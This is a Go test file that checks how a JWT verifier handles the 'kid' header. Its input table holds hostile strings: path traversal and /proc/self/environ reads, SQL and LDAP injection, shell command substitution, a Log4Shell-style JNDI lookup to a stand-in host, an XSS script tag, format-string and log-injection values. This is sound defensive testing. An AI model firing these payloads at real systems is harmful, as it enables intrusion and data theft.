package verifytest

import (
	"fmt"
	"strings"

	"example.com/signet/keys/keystest"
	"example.com/signet/resource/verify"
)

func (m maker) kids() []row {
	id := inside(m.header, "kid")
	rows := []row{
		{"spelled with an escape", m.head("kid", fmt.Sprintf(`"\u%04x%s"`, id[0], id[1:])), nil},
		{"missing", m.forge(m.header.Without("kid"), m.claims), verify.ErrMalformed},
		{"empty", m.head("kid", `""`), verify.ErrMalformed},
		{"null", m.head("kid", "null"), verify.ErrMalformed},
		{"a number", m.head("kid", "7"), verify.ErrMalformed},
		{"true", m.head("kid", "true"), verify.ErrMalformed},
		{"an array", m.head("kid", `["`+id+`"]`), verify.ErrMalformed},
		{"an object", m.head("kid", `{"kid":"`+id+`"}`), verify.ErrMalformed},
		{"256 octets", m.head("kid", quote(strings.Repeat("k", 256))), verify.ErrUnknownKey},
		{"257 octets", m.head("kid", quote(strings.Repeat("k", 257))), verify.ErrMalformed},
		{"257 octets in 86 characters", m.head("kid", `"`+strings.Repeat("€", 85)+`kk"`), verify.ErrMalformed},
		{"10 KB", m.head("kid", quote(strings.Repeat("k", 10_000))), verify.ErrMalformed},
		{"of a key that is retired and removed", keystest.AccessToken(keystest.ES256Other, m.claims),
			verify.ErrUnknownKey},
		{"of a key that never was", keystest.AccessToken(keystest.RS256Other, m.claims), verify.ErrUnknownKey},
		{"unknown, and expired as well", m.forge(m.header.With("kid", `"x"`), m.claims.With("exp", "1")),
			verify.ErrUnknownKey},
		{"unknown, and claims that are none", keystest.Forge(keystest.ES256, m.header.With("kid", `"x"`).String(), "x"),
			verify.ErrUnknownKey},
		{"unknown, of another issuer", m.forge(m.header.With("kid", `"x"`),
			m.claims.With("iss", `"https://evil.example.com"`)), verify.ErrIssuer},
	}
	for _, kid := range []named{
		{"unknown", "another-unknown-key"}, {"0", "0"}, {"a path", "../../dev/null"},
		{"a deep path", "../../../../../../dev/null"}, {"a path of this machine", "/proc/self/environ"},
		{"a path of Windows", `C:\\secret.pem`}, {"SQL", "x' UNION SELECT 'c2VjcmV0'; --"},
		{"a command", "$(touch x)|id"}, {"a template", "${jndi:ldap://evil.example.com/a}"},
		{"LDAP", "*)(uid=*))(|(uid=*"}, {"a format", "%s%s%s%n"}, {"HTML", "<script>alert(1)</script>"},
		{"a URL", "https://evil.example.com/jwks.json"}, {"a pattern", "*"},
		{"a property of every object", "__proto__"},
		{"a thumbprint URI", "urn:ietf:params:oauth:jwk-thumbprint:sha-256:" + id}, {"NUL", `\u0000`},
		{"ours and NUL", id + `\u0000`}, {"NUL and ours", `\u0000` + id}, {"ours, NUL, more", id + `\u0000.pem`},
		{"a line break for the log", `x\r\nlevel=INFO msg=\"let through\"`},
		{"a colour for the terminal", `\u001b[31mx`}, {"ours and a line break", id + `\n`},
		{"ours with a space", id + " "}, {"a space and ours", " " + id}, {"ours with padding", id + "="},
		{"ours cut short", id[:len(id)-1]}, {"ours and more", id + "A"}, {"ours twice", id + id},
		{"ours in small letters", strings.ToLower(id)}, {"ours in capitals", strings.ToUpper(id)},
		{"ours with a stray bit", stray(id, 1)}, {"ours in the other alphabet", otherAlphabet(id)},
		{"ours with a direction mark", id + `\u202e`}, {"ours with a soft hyphen", id[:5] + `\u00ad` + id[5:]},
		{"both of ours", id + "," + inside(m.rsHeader, "kid")}, {"a replacement character", `\ufffd`},
	} {
		rows = append(rows, row{kid.name, m.head("kid", `"`+kid.value+`"`), verify.ErrUnknownKey})
	}
	return rows
}

// otherAlphabet is a kid as readers might spell it that decode it and encode it again.
func otherAlphabet(id string) string {
	if standard := toStandard(id); standard != id {
		return standard
	}
	return id + "+"
}
